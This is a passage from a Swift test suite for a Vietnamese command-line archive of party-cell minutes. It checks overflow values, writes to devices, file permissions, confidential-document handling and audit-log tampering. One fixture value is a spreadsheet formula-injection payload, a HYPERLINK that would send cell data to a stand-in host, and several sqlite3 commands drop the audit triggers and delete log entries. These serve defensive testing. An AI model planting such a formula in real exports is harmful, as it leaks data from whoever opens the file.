import Foundation
import Testing

/// Faults and hostile use through the real program (issue 15): values the schema accepts but no
/// record can hold, outputs that are devices, concurrent use, private files.
@Suite("sochibo under faults and hostile use")
struct SafetyTests {
    let directory = Sochibo.temporaryDirectory()
    var archive: String { directory + "/archive" }

    func run(_ arguments: [String]) throws -> Sochibo.Result {
        try Sochibo.run(arguments + ["--archive", archive])
    }

    func initialized(with files: [String] = []) throws {
        let created = try Sochibo.run(["init", "--archive", archive])
        #expect(created.status == 0, "\(created.errors)")
        for file in files {
            let imported = try run(["import", Sochibo.path(file)])
            #expect(imported.status == 0, "\(imported.errors)")
        }
    }

    /// Runs `sql` on the archive's database with the `sqlite3` shell, as a person editing it by
    /// hand (or a database written before the bounds were checked) would.
    func sqlite(_ sql: String) throws {
        let result = try Sochibo.tool("/usr/bin/sqlite3", [archive + "/archive.sqlite", sql])
        #expect(result.status == 0, "\(result.errors)")
    }

    /// Exit 0, 1 or 64 (a usage error) with words, never a trap (a signal) or Swift's own
    /// "Fatal error".
    func expectNoCrash(_ result: Sochibo.Result, _ arguments: [String]) {
        #expect([0, 1, 64].contains(result.status), "\(arguments): status \(result.status)\n\(result.errors)")
        #expect(!result.errors.contains("Fatal error"), "\(arguments): \(result.errors)")
    }

    // MARK: 1. No value the schema accepts may crash a command

    @Test func aVoteCountNoCellCanHaveIsRefusedAtItsAttribute() throws {
        try initialized()
        let file = Sochibo.path("fixtures/hostile/vote-overflow.xml")
        let result = try run(["import", file])
        #expect(result.status == 1)
        #expect(
            result.errorLines.first
                == "\(file):60:60: lỗi: số tán thành quá lớn: 4611686018427387904 (tối đa 100.000)",
            "\(result.errors)")
        #expect(!(try run(["export"]).output.contains("<meeting")))
    }

    @Test func countsStoredBeyondReasonAreReadWithoutATrap() throws {
        try initialized(with: ["fixtures/valid/minimal.xml"])
        // Each count alone fits; their sum, twice the votes for, and the share in a Double
        // converted back to an integer do not.
        try sqlite(
            "UPDATE vote SET votes_for = 4611686018427387904, votes_against = 9223372036854775807, abstentions = 9223372036854775807"
        )
        for arguments in [
            ["check"], ["show", "a-2023-01"], ["summary", "--year", "2023", "--organization", "dbx-test"],
            ["summary", "--year", "2023", "--cell", "cb-a", "--format", "csv"],
            ["summary", "--year", "2023", "--cell", "cb-a", "--format", "html"],
            ["summary", "--year", "2023", "--cell", "cb-a", "--format", "xml"],
            ["print", "a-2023-01"], ["template", "--from", "a-2023-01"], ["export"],
        ] {
            expectNoCrash(try run(arguments), arguments)
        }
        let check = try run(["check", "--format", "json"])
        #expect(check.output.contains("votes-exceed-entitled"), "\(check.output)")
        // One miscount is one finding: more than entitled is not also "more than present".
        #expect(!check.output.contains("votes-exceed-present"), "\(check.output)")
    }

    @Test func aSequenceAtItsLastNumberRefusesToIssueInWords() throws {
        try initialized(with: ["fixtures/valid/draft-no-number.xml"])
        try sqlite("UPDATE document SET number = 9223372036854775807 WHERE id = 'a-nq-01'")
        let result = try run(["issue", "a-nq-02"])
        expectNoCrash(result, ["issue"])
        #expect(result.status == 1)
        #expect(
            result.errorLines
                == [
                    "sochibo: không còn số cho nghị quyết của chi bộ cb-a trong nhiệm kỳ 2022-2025: số lớn nhất đã dùng là 9223372036854775807, vượt quá 99999; chưa ban hành gì."
                ], "\(result.errors)")
        #expect(try run(["show", "a-nq-02"]).output.contains("dự thảo"))
    }

    @Test func aDocumentNumberBeyondAnyTermIsRefusedAtImport() throws {
        try initialized()
        let minimal = try String(contentsOfFile: Sochibo.path("fixtures/valid/minimal.xml"), encoding: .utf8)
        let file = directory + "/number.xml"
        try Data(
            minimal.replacingOccurrences(
                of: #"number="1" symbol="01-NQ/CB""#, with: #"number="100000000000000000000000" symbol="01-NQ/CB""#
            ).utf8
        ).write(to: URL(fileURLWithPath: file))
        let result = try run(["import", file])
        #expect(result.status == 1)
        #expect(result.errors.contains("\(file):63:"), "\(result.errors)")
        #expect(
            result.errors.contains("số văn bản quá lớn: 100000000000000000000000 (tối đa 99.999)"), "\(result.errors)")
    }

    @Test func aFormWithAnImpossibleVoteCountIsRefusedAtItsLine() throws {
        try initialized(with: ["archive/samples/dbx-hop-thanh.xml"])
        let form = try String(
            contentsOfFile: Sochibo.path("fixtures/forms/bien-ban-na-pan-2024-12-28.txt"), encoding: .utf8)
        let file = directory + "/bien-ban.txt"
        try Data(
            form.replacingOccurrences(
                of: "năm 2025 | 11 | 0 | 0", with: "năm 2025 | 4611686018427387904 | 9223372036854775807 | 0"
            ).utf8
        ).write(to: URL(fileURLWithPath: file))
        let result = try run(["file", file])
        expectNoCrash(result, ["file"])
        #expect(result.status == 1)
        #expect(result.errors.contains("\(file):59: lỗi: biểu quyết cần dạng"), "\(result.errors)")
        #expect(result.errors.contains("số từ 0 đến 100000"), "\(result.errors)")
    }

    @Test func searchPagesBeyondReasonAreRefusedInASentence() throws {
        try initialized(with: ["fixtures/valid/minimal.xml"])
        for (option, value) in [("--limit", "9223372036854775807"), ("--offset", "9223372036854775800")] {
            let result = try run(["search", "đường", option, value])
            expectNoCrash(result, [option])
            #expect(result.status == 64)
            #expect(result.errors.contains("\(option) phải từ"), "\(result.errors)")
        }
        let page = try run(["search", "đường", "--limit", "1000", "--offset", "1000000"])
        #expect(page.status == 0, "\(page.errors)")
    }

    // MARK: 2. -o PATH never replaces what is not a regular file

    /// The type and permission bits of `path`, without following a link.
    func mode(_ path: String) -> mode_t? {
        var info = stat()
        return lstat(path, &info) == 0 ? info.st_mode : nil
    }

    @Test func aFullDeviceIsAnErrorForEveryWriter() throws {
        try initialized(with: ["fixtures/valid/minimal.xml"])
        for arguments in [
            ["export"], ["print", "a-2023-01"], ["summary", "--year", "2023", "--cell", "cb-a"],
            ["template", "--from", "a-2023-01"],
        ] {
            let result = try run(arguments + ["-o", "/dev/full"])
            #expect(result.status == 1, "\(arguments)")
            #expect(result.errorLines == ["sochibo: không ghi được /dev/full: ổ đĩa đã đầy."], "\(arguments)")
            #expect(mode("/dev/full").map { $0 & S_IFMT } == S_IFCHR)
        }
    }

    @Test func dashAndStandardOutputItselfAreStandardOutput() throws {
        try initialized(with: ["fixtures/valid/minimal.xml"])
        for target in ["-", "/dev/stdout"] {
            let export = try run(["export", "-o", target])
            #expect(export.status == 0, "\(export.errors)")
            #expect(export.output.hasPrefix("<?xml") && export.output.contains("a-2023-01"), "\(target)")
            let page = try run(["print", "a-2023-01", "-o", target])
            #expect(page.status == 0 && page.output.contains("<html"), "\(target)")
        }
        #expect(mode("/dev/stdout").map { $0 & S_IFMT } == S_IFLNK)
    }

    @Test func aFIFOIsWrittenToAndStaysAFIFO() throws {
        try initialized(with: ["fixtures/valid/minimal.xml"])
        let fifo = directory + "/pipe"
        #expect(mkfifo(fifo, 0o600) == 0)
        // The reader opens the FIFO while the export writes to it: a process of its own, read
        // on a thread of its own, so that no test task has to be scheduled for it (the
        // cooperative pool may be busy with other tests waiting on their processes).
        let cat = Process()
        cat.executableURL = URL(fileURLWithPath: "/bin/cat")
        cat.arguments = [fifo]
        let pipe = Pipe()
        cat.standardOutput = pipe
        try cat.run()
        let output = ReadText()
        let readAll = Thread {
            output.text = String(decoding: pipe.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        }
        readAll.start()
        let export = try run(["export", "-o", fifo])
        #expect(export.status == 0, "\(export.errors)")
        cat.waitUntilExit()
        while !output.done { usleep(10_000) }
        let received = output.text
        #expect(received.contains("a-2023-01"))
        #expect(mode(fifo).map { $0 & S_IFMT } == S_IFIFO)
        #expect(try FileManager.default.contentsOfDirectory(atPath: directory).sorted() == ["archive", "pipe"])
    }

    @Test func aRegularFileIsReplacedWholeAndALinkKeepsPointingAtIt() throws {
        try initialized(with: ["fixtures/valid/minimal.xml"])
        let folder = directory + "/out"
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        let real = folder + "/real.xml"
        try Data("cũ".utf8).write(to: URL(fileURLWithPath: real))
        chmod(real, 0o640)
        #expect(symlink(real, folder + "/link.xml") == 0)
        let result = try run(["export", "-o", folder + "/link.xml"])
        #expect(result.status == 0, "\(result.errors)")
        #expect(mode(folder + "/link.xml").map { $0 & S_IFMT } == S_IFLNK)
        #expect(try String(contentsOfFile: real, encoding: .utf8).contains("a-2023-01"))
        // The replaced file keeps its mode; no temporary file is left beside it.
        #expect(mode(real).map { $0 & 0o777 } == 0o640)
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder).sorted() == ["link.xml", "real.xml"])
    }

    // MARK: 3. Archives and what is written from them are private

    @Test func newArchivesAndOutputsAreTheOwnersAlone() throws {
        try initialized(with: ["fixtures/valid/minimal.xml"])
        #expect(mode(archive).map { $0 & 0o777 } == 0o700)
        for file in ["archive.sqlite", "archive.sqlite-wal", "archive.sqlite-shm"] {
            // The -wal and -shm files exist only while a connection is open; when present, private.
            if let bits = mode(archive + "/" + file) { #expect(bits & 0o777 == 0o600, "\(file)") }
        }
        #expect(mode(archive + "/archive.sqlite") != nil)
        for (arguments, name) in [
            (["export"], "sao-luu.xml"), (["print", "a-2023-01"], "in.html"),
            (["summary", "--year", "2023", "--cell", "cb-a", "--format", "csv"], "bao-cao.csv"),
            (["template", "--from", "a-2023-01"], "mau.txt"),
        ] {
            let path = directory + "/" + name
            let result = try run(arguments + ["-o", path])
            #expect(result.status == 0, "\(result.errors)")
            #expect(mode(path).map { $0 & 0o777 } == 0o600, "\(name)")
        }
    }

    // MARK: 4. Two people at once, read-only archives, atomic init

    /// Runs `sochibo` as an unprivileged user when the tests run as root (root may write
    /// anywhere, so a read-only archive is read-only only to someone else).
    func runAsReader(_ arguments: [String]) throws -> Sochibo.Result {
        guard getuid() == 0 else { return try run(arguments) }
        return try Sochibo.tool(
            "/usr/bin/setpriv",
            ["--reuid=65534", "--regid=65534", "--clear-groups", Sochibo.executable] + arguments + [
                "--archive", archive,
            ])
    }

    @Test func aReadOnlyArchiveIsReadAndRefusesWritesInWords() throws {
        try initialized(with: ["fixtures/valid/minimal.xml"])
        chmod(directory, 0o755)
        chmod(archive + "/archive.sqlite", 0o444)
        chmod(archive, 0o555)
        defer { chmod(archive, 0o700) }
        for arguments in [
            ["list", "meetings"], ["show", "a-2023-01"], ["search", "đường"], ["check"],
            ["summary", "--year", "2023", "--cell", "cb-a"], ["export"],
        ] {
            let result = try runAsReader(arguments)
            #expect(result.status == 0, "\(arguments): \(result.errors)")
        }
        #expect(try runAsReader(["check"]).output.contains("kho chỉ cho đọc"))
        for arguments in [["reindex"], ["import", Sochibo.path("fixtures/valid/minimal-update.xml")]] {
            let result = try runAsReader(arguments)
            #expect(result.status == 1)
            #expect(
                result.errorLines
                    == [
                        "sochibo: kho lưu trữ \(archive) chỉ cho đọc (không có quyền ghi vào tệp hoặc thư mục, hay ổ đĩa chỉ cho đọc); chưa ghi gì cả."
                    ], "\(arguments): \(result.errors)")
        }
        // Nothing was left beside the database by the readers.
        #expect(try FileManager.default.contentsOfDirectory(atPath: archive) == ["archive.sqlite"])
    }

    @Test func aWriterThatWaitedTooLongSaysNothingWasWrittenInVietnamese() throws {
        try initialized(with: ["fixtures/valid/minimal.xml"])
        // The sqlite3 shell holds the write lock, as a long import would.
        let holder = Process()
        holder.executableURL = URL(fileURLWithPath: "/usr/bin/sqlite3")
        holder.arguments = [archive + "/archive.sqlite"]
        let input = Pipe()
        holder.standardInput = input
        holder.standardOutput = Pipe()
        try holder.run()
        input.fileHandleForWriting.write(Data("BEGIN IMMEDIATE;\nSELECT 'locked';\n".utf8))
        defer {
            input.fileHandleForWriting.write(Data("ROLLBACK;\n".utf8))
            try? input.fileHandleForWriting.close()
            holder.waitUntilExit()
        }
        Thread.sleep(forTimeInterval: 0.5)
        // Readers are not held up by a writer.
        #expect(try run(["list", "meetings"]).status == 0)
        let result = try run(["reindex"])
        #expect(result.status == 1)
        #expect(
            result.errorLines
                == [
                    "sochibo: kho lưu trữ \(archive) đang bận (một lần nhập khác đang ghi); chưa ghi gì cả, hãy thử lại sau ít phút."
                ], "\(result.errors)")
    }

    @Test func commandsStartedTogetherDoNotFailAsBusy() async throws {
        try initialized(with: ["fixtures/valid/minimal.xml"])
        let results = try await withThrowingTaskGroup(of: Sochibo.Result.self) { group in
            for index in 0..<12 {
                group.addTask {
                    try run(
                        index % 3 == 0
                            ? ["import", Sochibo.path("fixtures/valid/minimal-update.xml")] : ["list", "meetings"])
                }
            }
            return try await group.reduce(into: []) { $0.append($1) }
        }
        for result in results { #expect(result.status == 0, "\(result.errors)") }
    }

    @Test func aKilledInitLeavesNothingThatStopsTheNextOne() throws {
        for delay in [0.0, 0.02, 0.05, 0.1, 0.2] {
            let target = directory + "/killed-\(delay)"
            let process = Process()
            process.executableURL = URL(fileURLWithPath: Sochibo.executable)
            process.arguments = ["init", "--archive", target]
            process.standardOutput = Pipe()
            process.standardError = Pipe()
            try process.run()
            Thread.sleep(forTimeInterval: delay)
            kill(process.processIdentifier, SIGKILL)
            process.waitUntilExit()
            // Either the archive is whole, or there is none and init makes it now.
            let again = try Sochibo.run(["init", "--archive", target])
            #expect(again.status == 0 || again.errors.contains("đã có kho lưu trữ"), "\(again.errors)")
            let listed = try Sochibo.run(["list", "cells", "--archive", target])
            #expect(listed.status == 0, "after \(delay) s: \(listed.errors)")
        }
    }

    // MARK: 6. One record, one identifier

    @Test func aDocumentCannotTakeAMeetingsIdentifierInTheFile() throws {
        try initialized()
        let file = Sochibo.path("fixtures/invalid/id-of-another-kind.xml")
        let result = try run(["import", file])
        #expect(result.status == 1)
        #expect(
            result.errorLines.first
                == "\(file):63:13: lỗi: mã a-2023-01 đã là mã của một kỳ sinh hoạt ở dòng 40; mỗi mã chỉ dùng cho một bản ghi",
            "\(result.errors)")
    }

    @Test func aDocumentCannotTakeAMeetingsIdentifierInTheArchive() throws {
        try initialized(with: ["archive/samples/dbx-hop-thanh.xml"])
        let minimal = try String(contentsOfFile: Sochibo.path("fixtures/valid/minimal.xml"), encoding: .utf8)
        let file = directory + "/tai-lieu.xml"
        try Data(minimal.replacingOccurrences(of: #"<document id="a-nq-01""#, with: #"<document id="np-2023-08""#).utf8)
            .write(to: URL(fileURLWithPath: file))
        let imported = try run(["import", file])
        #expect(imported.status == 1)
        #expect(
            imported.errorLines.first
                == "\(file):63:13: lỗi: mã np-2023-08 đã là mã của một kỳ sinh hoạt trong kho; mỗi mã chỉ dùng cho một bản ghi",
            "\(imported.errors)")

        // The resolution's form names the meeting that adopted it: file that first.
        #expect(try run(["file", Sochibo.path("fixtures/forms/bien-ban-na-pan-2024-12-28.txt")]).status == 0)
        let form = try String(
            contentsOfFile: Sochibo.path("fixtures/forms/nghi-quyet-na-pan-2024-12-29.txt"), encoding: .utf8)
        let filled = directory + "/nghi-quyet.txt"
        try Data(form.replacingOccurrences(of: "Mã văn bản:", with: "Mã văn bản: np-2023-08").utf8)
            .write(to: URL(fileURLWithPath: filled))
        let filed = try run(["file", filled])
        #expect(filed.status == 1)
        #expect(
            filed.errorLines.first
                == "\(filled):6: lỗi: mã np-2023-08 đã là mã của một kỳ sinh hoạt trong kho; mỗi mã chỉ dùng cho một bản ghi",
            "\(filed.errors)")
        #expect(try run(["show", "np-2023-08"]).output.contains("Kỳ sinh hoạt"))
    }

    // MARK: 8. Secrets stay where they are

    /// pl-2023-02 reports on the tasks of pl-nq-2023-01, a resolution marked Mật.
    @Test func confidentialTasksAreWithheldFromPrintsAndFormsUnlessAskedFor() throws {
        try initialized(with: ["archive/samples/dbx-hop-thanh.xml"])
        let secret = "Hoàn thiện hồ sơ đề nghị kết nạp quần chúng"
        let printed = try run(["print", "pl-2023-02"])
        #expect(printed.status == 0, "\(printed.errors)")
        #expect(!printed.output.contains(secret) && printed.output.contains("nhiệm vụ của văn bản mật, không in ở đây"))
        #expect(printed.errors.contains("đã để lại nội dung 3 nhiệm vụ của văn bản mật"))
        let allowed = try run(["print", "pl-2023-02", "--include-confidential"])
        #expect(allowed.status == 0 && allowed.output.contains(secret) && allowed.errors.isEmpty)
        // The blank minutes form of a day when those tasks were open.
        let form = try run(["template", "meeting", "--cell", "cb-phai-luong", "--date", "2023-01-20"])
        #expect(form.status == 0, "\(form.errors)")
        #expect(!form.output.contains(secret) && !form.output.contains("pl-nq-2023-01-t1"))
        #expect(form.output.contains("3 nhiệm vụ của văn bản mật không ghi ở mẫu này"))
    }

    @Test func aConfidentialDocumentsPlaceNeverBecomesTheMinutesDateLine() throws {
        try initialized(with: ["archive/samples/dbx-hop-thanh.xml"])
        // pl-nq-2023-01, marked Mật, was adopted at pl-2023-01: its place would be the first choice.
        try sqlite("UPDATE document SET place = 'Địa điểm kín' WHERE id = 'pl-nq-2023-01'")
        let printed = try run(["print", "pl-2023-01"])
        #expect(printed.status == 0, "\(printed.errors)")
        #expect(!printed.output.contains("Địa điểm kín") && printed.output.contains("Phai Luông, ngày"))
        let allowed = try run(["print", "pl-2023-01", "--include-confidential"])
        #expect(!allowed.output.contains("Địa điểm kín"))
    }

    @Test func aPartialExportLeavesConfidentialDocumentsOutAndStillImportsOnItsOwn() throws {
        try initialized(with: ["archive/samples/dbx-hop-thanh.xml"])
        func importsAlone(_ text: String, _ name: String) throws {
            let file = directory + "/\(name).xml"
            try Data(text.utf8).write(to: URL(fileURLWithPath: file))
            let fresh = directory + "/fresh-\(name)"
            #expect(try Sochibo.run(["init", "--archive", fresh]).status == 0)
            let imported = try Sochibo.run(["import", "--archive", fresh, file])
            #expect(imported.status == 0, "\(name): \(imported.errors)")
        }
        // np-nq-2024-12, marked Mật, is the last resolution of cb-na-pan's 2024: nothing refers to it.
        let partial = try run(["export", "--cell", "cb-na-pan", "--year", "2024"])
        #expect(partial.status == 0)
        #expect(
            partial.errorLines == [
                "sochibo: đã để lại 1 văn bản mật; thêm --include-confidential nếu được phép mang theo."
            ], "\(partial.errors)")
        #expect(!partial.output.contains("np-nq-2024-12") && partial.output.contains(#"<meeting id="np-2024-12""#))
        try importsAlone(partial.output, "na-pan")
        let allowed = try run(["export", "--cell", "cb-na-pan", "--year", "2024", "--include-confidential"])
        #expect(allowed.status == 0 && allowed.errors.isEmpty && allowed.output.contains(#"id="np-nq-2024-12""#))

        // pl-nq-2023-01, marked Mật, has its tasks reported on at pl-2023-02, which adopted
        // pl-nq-2023-02, whose tasks the next minutes report on…: they go with it, counted.
        let year = try run(["export", "--organization", "dbx-hop-thanh", "--year", "2023"])
        #expect(year.status == 0)
        let sentence = try #require(year.errorLines.first)
        #expect(year.errorLines.count == 1)
        #expect(sentence.hasPrefix("sochibo: đã để lại 1 văn bản mật, cùng "), "\(sentence)")
        #expect(sentence.contains(" biên bản và ") && sentence.contains(" văn bản khác dẫn chiếu tới chúng"))
        #expect(sentence.hasSuffix("; thêm --include-confidential nếu được phép mang theo."))
        #expect(!year.output.contains(#"id="pl-nq-2023-01""#) && !year.output.contains(#"id="pl-2023-02""#))
        #expect(year.output.contains(#"<meeting id="pl-2023-01""#) && year.output.contains(#"id="np-nq-2023-08""#))
        try importsAlone(year.output, "2023")

        // The whole archive is the backup: everything, and nothing to say.
        let whole = try run(["export"])
        #expect(whole.status == 0 && whole.errors.isEmpty)
        #expect(whole.output.contains(#"id="pl-nq-2023-01""#) && whole.output.contains(#"id="np-nq-2024-12""#))
    }

    @Test func listDocumentsWithholdsConfidentialTitlesUnlessAskedFor() throws {
        try initialized(with: ["archive/samples/dbx-hop-thanh.xml"])
        let title = "Nghị quyết lãnh đạo thực hiện nhiệm vụ tháng 01 năm 2023"
        for format in ["text", "json"] {
            let listed = try run(["list", "documents", "--cell", "cb-phai-luong", "--year", "2023", "--format", format])
            #expect(listed.status == 0)
            #expect(!listed.output.contains(title) && listed.output.contains("(văn bản mật, không ghi trích yếu)"))
            #expect(listed.output.contains("pl-nq-2023-01") && listed.output.contains("tháng 02 năm 2023"))
            #expect(
                listed.errorLines == [
                    "sochibo: đã để lại trích yếu của 1 văn bản mật; thêm --include-confidential nếu được phép xem."
                ], "\(listed.errors)")
            let allowed = try run([
                "list", "documents", "--cell", "cb-phai-luong", "--year", "2023", "--format", format,
                "--include-confidential",
            ])
            #expect(allowed.output.contains(title) && allowed.errors.isEmpty)
        }
    }

    // MARK: 11. Exports are data, never code

    @Test func aCellNamedLikeAFormulaIsTextInTheCSV() throws {
        try initialized(with: ["fixtures/hostile/formula-cell-name.xml"])
        let result = try run(["summary", "--year", "2023", "--cell", "cb-a", "--format", "csv"])
        #expect(result.status == 0, "\(result.errors)")
        let row = try #require(result.output.split(separator: "\r\n").dropFirst().first)
        #expect(
            row.hasPrefix(
                #"2023,cb-a,"'=HYPERLINK(""http://example.invalid/?d=""&A1,""Chi bộ thôn A"")",Đảng bộ xã Thử Nghiệm,"#),
            "\(row)")
        // Other formats carry the name as it is.
        let json = try run(["summary", "--year", "2023", "--cell", "cb-a", "--format", "json"])
        #expect(json.output.contains(#""name" : "=HYPERLINK("#) || json.output.contains(#""name":"=HYPERLINK("#))
    }

    @Test func aFormulaNamedCellIsATextCellInTheWorkbook() throws {
        try initialized(with: ["fixtures/hostile/formula-cell-name.xml"])
        let file = directory + "/bao-cao.xlsx"
        let written = try run(["summary", "--year", "2023", "--cell", "cb-a", "--format", "xlsx", "-o", file])
        #expect(written.status == 0, "\(written.errors)")
        // openpyxl reads a formula cell as type "f"; the name must come back as text, whole.
        let script = """
            import sys, openpyxl
            sheet = openpyxl.load_workbook(sys.argv[1])["Chi bộ"]
            cell = sheet["C2"]
            print(cell.data_type, cell.value)
            """
        let read = try Sochibo.tool("/usr/bin/env", ["python3", "-c", script, file])
        #expect(read.status == 0, "\(read.errors)")
        #expect(read.output.hasPrefix("s =HYPERLINK("), "\(read.output)")
    }

    // MARK: 10. Hostile sizes are bounded before the expensive work

    @Test func aQueryOfHundredsOfWordsIsRefusedAtOnce() throws {
        try initialized(with: ["fixtures/valid/minimal.xml"])
        let result = try run(["search"] + Array(repeating: "đường", count: 800))
        #expect(result.status == 1)
        #expect(
            result.errorLines
                == ["sochibo: câu tìm kiếm quá dài (800 từ): chỉ tìm với tối đa 32 từ; hãy bớt từ rồi tìm lại."],
            "\(result.errors)")
        #expect(try run(["search"] + Array(repeating: "đường", count: 32)).status == 0)
    }

    @Test func anElementWithThousandsOfAttributesIsRefusedBeforeLibxml2ScansThem() throws {
        try initialized()
        let file = Sochibo.path("fixtures/hostile/many-attributes.xml")
        let refusal =
            "lỗi: nội dung bị từ chối: một phần tử có quá 256 thuộc tính; không phần tử nào của định dạng lưu trữ cần nhiều đến thế"
        let result = try run(["import", file])
        #expect(result.status == 1)
        #expect(
            result.errorLines == [
                "\(file):40:3: \(refusal)", "sochibo: không nhập gì cả: 1 lỗi; kho lưu trữ giữ nguyên như trước.",
            ],
            "\(result.errors)")
        // 200,000 attributes took libxml2 over two minutes to refuse.
        let minimal = try String(contentsOfFile: Sochibo.path("fixtures/valid/minimal.xml"), encoding: .utf8)
        let extra = (0..<200_000).map { "x\($0)=\"\($0)\"" }.joined(separator: " ")
        let big = directory + "/big.xml"
        try Data(minimal.replacingOccurrences(of: "<meeting ", with: "<meeting " + extra + " ").utf8)
            .write(to: URL(fileURLWithPath: big))
        let started = Date()
        let refused = try run(["import", big])
        #expect(refused.errorLines.first == "\(big):40:3: \(refusal)", "\(refused.errors)")
        #expect(Date().timeIntervalSince(started) < 30)
    }

    // MARK: 12. What the format allows is read as the format says

    @Test func tokensWithSpacesDatesWithZonesAndADoctypeInACommentAreReadAsTheSchemaReadsThem() throws {
        try initialized(with: ["fixtures/valid/format-allowances.xml"])
        let plain = directory + "/plain"
        #expect(try Sochibo.run(["init", "--archive", plain]).status == 0)
        #expect(
            try Sochibo.run(["import", "--archive", plain, Sochibo.path("fixtures/valid/minimal.xml")]).status == 0)
        let allowed = try run(["export"])
        #expect(allowed.status == 0, "\(allowed.errors)")
        #expect(allowed.output == (try Sochibo.run(["export", "--archive", plain]).output))
    }

    // MARK: 9. check sees what was removed, and the log's head is on every report

    /// The footer line "Sổ nhật ký: N mục, mã cuối XXXXXXXXXXXXXXXX" in `text`, if there is one.
    func logHead(_ text: String) -> String? {
        guard let start = text.range(of: "Sổ nhật ký: ") else { return nil }
        guard let mark = text[start.upperBound...].range(of: "mã cuối ") else { return nil }
        let digits = text[mark.upperBound...].prefix(16)
        guard digits.count == 16, digits.allSatisfy(\.isHexDigit) else { return nil }
        return String(text[start.lowerBound..<mark.upperBound] + digits)
    }

    @Test func recordsDeletedWithTheShellFailCheckAndTheLogHeadIsShown() throws {
        try initialized(with: ["fixtures/valid/minimal.xml"])
        let before = try run(["check"])
        #expect(before.status == 0)
        let head = try #require(logHead(before.output), "\(before.output)")
        #expect(head.hasPrefix("Sổ nhật ký: 4 mục, mã cuối "))
        try sqlite(
            "PRAGMA foreign_keys = ON; DELETE FROM document WHERE id = 'a-nq-01'; DELETE FROM meeting WHERE id = 'a-2023-01'"
        )
        #expect(try run(["reindex"]).status == 0)
        let after = try run(["check"])
        #expect(after.status == 1)
        #expect(
            after.output.contains(
                "nhật ký ghi kỳ sinh hoạt a-2023-01 nhưng kho không còn bản ghi đó: nó đã bị xóa ngoài chương trình"),
            "\(after.output)")
        #expect(after.output.contains("nhật ký ghi văn bản a-nq-01 nhưng kho không còn bản ghi đó"))
        #expect(logHead(after.output) == head)
    }

    @Test func theLastLogEntryDeletedOrAnEntryRewrittenFailsCheck() throws {
        try initialized(with: ["fixtures/valid/minimal.xml", "fixtures/valid/minimal-update.xml"])
        #expect(try run(["check"]).status == 0)
        // The last entry revoked a-nq-01, whose content (and hash) the entry before it already
        // had: the chain that is left is whole, and no record disagrees with the log.
        try sqlite(
            "DROP TRIGGER audit_log_never_deleted; DELETE FROM audit_log WHERE seq = (SELECT max(seq) FROM audit_log)")
        let shortened = try run(["check"])
        #expect(shortened.status == 1)
        #expect(
            shortened.output.contains("lỗi: nhật ký thiếu mục 7–7 ở cuối: mục cuối từng ghi là mục 7"),
            "\(shortened.output)")
        #expect(logHead(shortened.output)?.hasPrefix("Sổ nhật ký: 6 mục") == true)

        let other = directory + "/other"
        #expect(try Sochibo.run(["init", "--archive", other]).status == 0)
        #expect(
            try Sochibo.run(["import", "--archive", other, Sochibo.path("fixtures/valid/minimal.xml")]).status == 0)
        let result = try Sochibo.tool(
            "/usr/bin/sqlite3",
            [
                other + "/archive.sqlite",
                "DROP TRIGGER audit_log_append_only; UPDATE audit_log SET actor = 'ai đó' WHERE seq = 2",
            ])
        #expect(result.status == 0, "\(result.errors)")
        let rewritten = try Sochibo.run(["check", "--archive", other])
        #expect(rewritten.status == 1)
        #expect(rewritten.output.contains("lỗi: nhật ký bị sửa ở mục 2"), "\(rewritten.output)")
    }

    @Test func theLogsHeadIsTheSameOnCheckAndEveryPrintedReportAndMovesWithEachWrite() throws {
        try initialized(with: ["fixtures/valid/minimal.xml"])
        let check = try run(["check"])
        let head = try #require(logHead(check.output), "\(check.output)")
        let json = try run(["check", "--format", "json"])
        let report = try #require(try JSONSerialization.jsonObject(with: Data(json.output.utf8)) as? [String: Any])
        let logHeadJSON = try #require(report["logHead"] as? [String: Any], "\(json.output)")
        let chain = try #require(logHeadJSON["chain"] as? String)
        #expect(chain.count == 64 && logHeadJSON["entries"] as? Int == 4)
        #expect(head == "Sổ nhật ký: 4 mục, mã cuối \(chain.prefix(16))")
        #expect(logHeadJSON["mark"] as? String == String(chain.prefix(16)))
        #expect(check.output.contains(chain))
        let reports = [
            ["print", "a-2023-01"], ["print", "a-nq-01"],
            ["summary", "--year", "2023", "--cell", "cb-a", "--format", "html"],
        ]
        for arguments in reports {
            let page = try run(arguments)
            #expect(page.status == 0, "\(arguments): \(page.errors)")
            #expect(page.output.contains("<footer class=\"log-head\">\(head)</footer>"), "\(arguments)")
        }
        // The plain export keeps its byte-identical round trip: no head in it.
        #expect(!(try run(["export"]).output.contains(chain.prefix(16))))

        // A write appends entries: the head moves, on check and on the printed reports alike.
        #expect(try run(["import", Sochibo.path("fixtures/valid/minimal-update.xml")]).status == 0)
        let moved = try #require(logHead(try run(["check"]).output))
        #expect(moved != head && moved.hasPrefix("Sổ nhật ký: 7 mục, mã cuối "))
        for arguments in reports {
            let page = try run(arguments)
            #expect(logHead(page.output) == moved, "\(arguments)")
        }
    }

    // MARK: 12. Line ends

    /// The error lines of importing `file`, with its path written as FILE.
    func importErrors(_ file: String) throws -> [String] {
        try run(["import", file]).errorLines.map { $0.replacingOccurrences(of: file, with: "FILE") }
    }

    @Test func errorsInFilesWithCROrCRLFLineEndsNameTheirTrueLines() throws {
        try initialized()
        // The importer's own problems, each placed by its attribute on its line.
        let expected = try importErrors(Sochibo.path("fixtures/invalid/several-errors.xml"))
        #expect(expected.count == 4 && expected[0].hasPrefix("FILE:42:12: lỗi: "), "\(expected)")
        #expect(try importErrors(Sochibo.path("fixtures/invalid/cr-line-ends.xml")) == expected)
        // libxml2's: a schema error (bad-date, line 40) and a well-formedness one (malformed,
        // line 56), in CR and CR LF variants of the same files.
        for name in ["several-errors", "bad-date", "malformed"] {
            let original = try String(contentsOfFile: Sochibo.path("fixtures/invalid/\(name).xml"), encoding: .utf8)
            let lineFeed = try importErrors(Sochibo.path("fixtures/invalid/\(name).xml"))
            #expect(!lineFeed.isEmpty && !lineFeed[0].hasPrefix("FILE:1:"), "\(name): \(lineFeed)")
            for (ending, suffix) in [("\r", "cr"), ("\r\n", "crlf")] {
                let file = directory + "/\(name)-\(suffix).xml"
                try Data(original.replacingOccurrences(of: "\n", with: ending).utf8).write(
                    to: URL(fileURLWithPath: file))
                #expect(try importErrors(file) == lineFeed, "\(name), \(suffix)")
            }
        }
        // A valid file with CR line ends holds the same records as with LF ones.
        let minimal = try String(contentsOfFile: Sochibo.path("fixtures/valid/minimal.xml"), encoding: .utf8)
